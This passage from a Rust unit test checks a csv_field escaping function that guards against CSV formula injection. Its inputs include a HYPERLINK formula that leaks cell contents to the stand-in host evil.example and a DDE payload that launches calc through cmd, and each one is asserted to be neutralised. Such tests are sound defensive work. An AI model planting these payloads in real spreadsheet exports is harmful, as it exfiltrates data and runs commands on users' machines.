            csv_field("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\""
        );
        assert_eq!(csv_field("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("-2+3+cmd|x"), "'-2+3+cmd|x");
        assert_eq!(csv_field("\t=1"), "'\t=1");
        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
        assert_eq!(csv_field("同意\u{0}。\u{7}"), "同意。");
        assert_eq!(csv_field("照案通過 = 1"), "照案通過 = 1");
    }
}
